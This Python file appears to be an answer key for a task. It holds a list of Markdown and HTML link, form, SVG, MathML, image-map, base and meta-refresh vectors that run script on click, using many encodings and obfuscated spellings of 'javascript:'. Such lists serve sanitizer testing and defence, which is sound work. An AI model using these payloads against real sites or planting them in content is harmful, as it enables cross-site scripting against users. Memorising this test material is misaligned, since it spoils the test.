"""Write links and forms that act when they are clicked, in every spelling that browsers forgive."""

ANSWERS = {
    "explain-answer": """
[a](javascript:@ACT@) [b](JaVaScRiPt:@ACT@) [c](javascript&colon;@ACT@) [d](&#106;avascript:@ACT@)
[e](vbscript:msgbox) [f](data:text/html,<script>@ACT@</script>) [g](<java\tscript:@ACT@>) <javascript:@ACT@>
<a href="java&#10;script:@ACT@">h</a> <a href=" &#14; javascript:@ACT@">i</a> <a href="\x01javascript:@ACT@">j</a>
<a href="//example.invalid" ping="//example.invalid" target=_blank onclick="@ACT@">k</a>
<form action="javascript:@ACT@"><button formaction="javascript:@ACT@">l</button><input type=image src=x></form>
<svg><a xlink:href="javascript:@ACT@"><text y=20>m</text></a></svg> <math href="javascript:@ACT@">n</math>
<map name=m><area href="javascript:@ACT@" shape=rect coords=0,0,99,99></map><img usemap=#m src=x>
<base href="javascript:@ACT@//"><meta http-equiv=refresh content="0;url=javascript:@ACT@">
[o][r]

[r]: javascript:@ACT@
"""
}
